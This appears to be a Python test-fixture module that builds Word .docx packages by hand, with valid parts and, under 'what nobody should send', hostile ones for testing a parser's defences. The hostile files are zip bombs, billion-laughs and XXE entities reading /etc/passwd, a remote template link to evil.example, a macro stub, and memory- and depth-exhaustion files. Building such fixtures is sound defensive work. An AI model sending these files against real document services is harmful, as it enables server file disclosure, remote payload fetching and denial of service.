"""Word files for tests, written by hand: what Word itself writes, and what nobody should."""

import zipfile
from collections.abc import Mapping
from io import BytesIO
from random import Random

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SPACES = (
    f'xmlns:w="{W}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
    'xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math" '
    'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" '
    'xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml" '
    'xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml"'
)
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
STYLES = (
    '<w:style w:type="paragraph" w:default="1" w:styleId="N"><w:name w:val="Normal"/></w:style>'
    '<w:style w:type="paragraph" w:styleId="T"><w:name w:val="Title"/><w:rPr><w:b/></w:rPr></w:style>'
    '<w:style w:type="paragraph" w:styleId="H1"><w:name w:val="heading 1"/><w:rPr><w:b/></w:rPr></w:style>'
    '<w:style w:type="paragraph" w:styleId="H2"><w:name w:val="heading 2"/><w:basedOn w:val="H1"/></w:style>'
    '<w:style w:type="paragraph" w:styleId="Quote"><w:name w:val="Quote"/><w:rPr><w:i/></w:rPr></w:style>'
    '<w:style w:type="paragraph" w:styleId="Ch"><w:name w:val="_ H _Ch_G"/></w:style>'
    '<w:style w:type="paragraph" w:styleId="L"><w:name w:val="List Number"/>'
    '<w:pPr><w:numPr><w:numId w:val="1"/></w:numPr></w:pPr></w:style>'
    '<w:style w:type="character" w:styleId="Hyperlink"><w:name w:val="Hyperlink"/><w:rPr><w:u w:val="single"/></w:rPr>'
    "</w:style>"
)


def t(text: str) -> str:
    return f'<w:t xml:space="preserve">{text}</w:t>'


def r(text: str, properties: str = "") -> str:
    return f"<w:r>{f'<w:rPr>{properties}</w:rPr>' if properties else ''}{t(text)}</w:r>"


def p(*content: str, style: str = "", properties: str = "") -> str:
    """A paragraph; content without mark-up becomes a run."""
    named = f'<w:pStyle w:val="{style}"/>' if style else ""
    runs = "".join(each if each.startswith("<") else r(each) for each in content)
    return f"<w:p><w:pPr>{named}{properties}</w:pPr>{runs}</w:p>"


def numbered(number: int, level: int = 0) -> str:
    return f'<w:numPr><w:ilvl w:val="{level}"/><w:numId w:val="{number}"/></w:numPr>'


def came(content: str, by: str = "Aigerim S. (KAZ)") -> str:
    return f'<w:ins w:id="1" w:author="{by}" w:date="2026-11-25T10:00:00Z">{content}</w:ins>'


def went(text: str, by: str = "Aigerim S. (KAZ)") -> str:
    words = f'<w:r><w:delText xml:space="preserve">{text}</w:delText></w:r>'
    return f'<w:del w:id="2" w:author="{by}" w:date="2026-11-25T10:00:00Z">{words}</w:del>'


def level(at: int, form: str, text: str, more: str = "") -> str:
    return (
        f'<w:lvl w:ilvl="{at}"><w:start w:val="1"/><w:numFmt w:val="{form}"/>{more}<w:lvlText w:val="{text}"/></w:lvl>'
    )


def numbering(lists: Mapping[int, str], more: str = "") -> str:
    """Lists by their number; each of its levels."""
    abstract = "".join(
        f'<w:abstractNum w:abstractNumId="{id_}">{levels}</w:abstractNum>' for id_, levels in lists.items()
    )
    numbers = "".join(f'<w:num w:numId="{id_}"><w:abstractNumId w:val="{id_}"/></w:num>' for id_ in lists)
    return f"<w:numbering {SPACES}>{abstract}{numbers}{more}</w:numbering>"


def docx(
    body: str,
    parts: Mapping[str, str | bytes] | None = None,
    relations: str = "",
    types: str = "",
    main: str = MAIN,
    styles: str = STYLES,
) -> bytes:
    """A package. `parts`: further ones by name; those of Word are related by their names."""
    more = dict(parts or {})
    kinds = ("numbering", "footnotes", "endnotes", "comments", "commentsExtended", "header", "footer")
    inner = "".join(
        f'<Relationship Id="rId{kind}" Type="{OFFICE}/{kind}" Target="{kind}.xml"/>'
        for kind in ("styles", *kinds)
        if kind == "styles" or f"word/{kind}.xml" in more
    )
    files: dict[str, str | bytes] = {
        "[Content_Types].xml": f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="rels" ContentType="a/b"/>'
        f'<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" '
        f'ContentType="{main}"/>{types}</Types>',
        "_rels/.rels": f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="rId1" '
        f'Type="{OFFICE}/officeDocument" Target="word/document.xml"/></Relationships>',
        "word/_rels/document.xml.rels": f'<Relationships xmlns="{PACKAGE}/relationships">{inner}{relations}'
        "</Relationships>",
        "word/styles.xml": f"<w:styles {SPACES}>{styles}</w:styles>",
        "word/document.xml": f"<w:document {SPACES}><w:body>{body}<w:sectPr/></w:body></w:document>",
        **more,
    }
    return zipped(files)


def zipped(files: Mapping[str, str | bytes]) -> bytes:
    written = BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in files.items():
            package.writestr(name, content)
    return written.getvalue()


def strict(content: bytes) -> bytes:
    """The same package in the strict dialect: its spaces have other names."""
    with zipfile.ZipFile(BytesIO(content)) as package:
        files = {name: package.read(name).decode() for name in package.namelist()}
    strictly = {
        W: "http://purl.oclc.org/ooxml/wordprocessingml/main",
        OFFICE: "http://purl.oclc.org/ooxml/officeDocument/relationships",
    }
    for transitional, other in strictly.items():
        files = {name: text.replace(transitional, other) for name, text in files.items()}
    return zipped(files)


def comment(id_: int, by: str, text: str, paragraph: str) -> str:
    said = f'<w:p w14:paraId="{paragraph}">{r(text)}</w:p>'
    return f'<w:comment w:id="{id_}" w:author="{by}" w:date="2026-11-24T09:00:00Z">{said}</w:comment>'


def about(id_: int, content: str) -> str:
    """Runs that a comment is about."""
    return (
        f'<w:commentRangeStart w:id="{id_}"/>{content}<w:commentRangeEnd w:id="{id_}"/>'
        f'<w:r><w:commentReference w:id="{id_}"/></w:r>'
    )


# -- what nobody should send


def packed_bomb() -> bytes:
    """32 megabytes of one letter, in 32 kilobytes."""
    return docx("", {"word/document.xml": b"<a>" + b"x" * (32 << 20) + b"</a>"})


def claimed_bomb() -> bytes:
    """A part that says that it unpacks to 280 megabytes, as in packages whose parts lie upon each other."""
    content = bytearray(docx(p("Text."), {"word/media/a.bin": Random(6).randbytes(1_200_000)}))
    at = content.rindex(b"PK\x01\x02", 0, content.rindex(b"word/media/a.bin"))
    content[at + 24 : at + 28] = (280 << 20).to_bytes(4, "little")
    return bytes(content)


def entities() -> bytes:
    """A billion laughs."""
    rows = "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10 if at else "ha"}">' for at in range(10))
    text = f"<w:document {SPACES}><w:body><w:p><w:r><w:t>&l9;</w:t></w:r></w:p></w:body></w:document>"
    return docx("", {"word/document.xml": f"<!DOCTYPE w:document [{rows}]>{text}"})


def file_entity(encoding: str = "utf-8") -> bytes:
    """One that would read a file of the server."""
    text = f"<w:document {SPACES}><w:body><w:p><w:r><w:t>&f;</w:t></w:r></w:p></w:body></w:document>"
    head = f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE a [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
    return docx("", {"word/document.xml": (head + text).encode(encoding)})


def outside(kind: str = "attachedTemplate", target: str = "http://evil.example/x.dotm") -> bytes:
    relation = f'<Relationship Id="x" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
    return docx(p("Text."), relations=relation)


def macros() -> bytes:
    return docx(p("Text."), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 program"})


def broad() -> bytes:
    """One paragraph that takes more memory than any file is given."""
    random = Random(6)
    runs = "".join(f"<w:r><w:t>{random.getrandbits(24):x}</w:t></w:r>" for _ in range(50_000))
    return docx(f"<w:p>{runs * 18}</w:p>")


def deep() -> bytes:
    return docx("<w:sdt><w:sdtContent>" * 5_000 + p("Text.") + "</w:sdtContent></w:sdt>" * 5_000)


def encrypted() -> bytes:
    """The flag of a part that is locked with a password, in the package's table."""
    content = bytearray(docx(p("Text.")))
    at = content.rindex(b"PK\x01\x02")
    content[at + 8] |= 1
    return bytes(content)
